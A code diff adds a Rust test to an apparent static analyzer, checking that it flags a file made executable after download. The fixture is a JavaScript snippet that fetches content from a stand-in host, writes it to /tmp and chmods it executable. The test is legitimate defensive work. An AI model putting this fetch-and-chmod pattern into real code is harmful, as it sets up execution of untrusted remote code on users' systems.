@@ -581,3 +581,22 @@ fn a_file_that_a_helper_opens_and_compiles_is_read_as_the_code_that_it_is() {
                 && flow.zone == customs_model::Zone::Install)
     );
 }
+
+#[test]
+fn a_file_that_nobody_may_run_is_not_made_executable() {
+    let runs = |mode: &str| {
+        let code = format!(
+            "const fs = require('fs'); require('https').get('https://a.invalid/b', (r) => {{
+                let d = ''; r.on('data', (c) => d += c);
+                r.on('end', () => {{ fs.writeFileSync('/tmp/b', d); fs.chmodSync('/tmp/b', {mode}) }}) }})"
+        );
+        let flows = testing::found(testing::script(&code)).flows;
+        flows.iter().any(|flow| flow.sink == SinkKind::ExecutedFile)
+    };
+    for mode in ["0o755", "'755'", "0o100", "mode()"] {
+        assert!(runs(mode), "{mode}");
+    }
+    for mode in ["0o600", "384", "'0600'"] {
+        assert!(!runs(mode), "{mode}");
+    }
+}
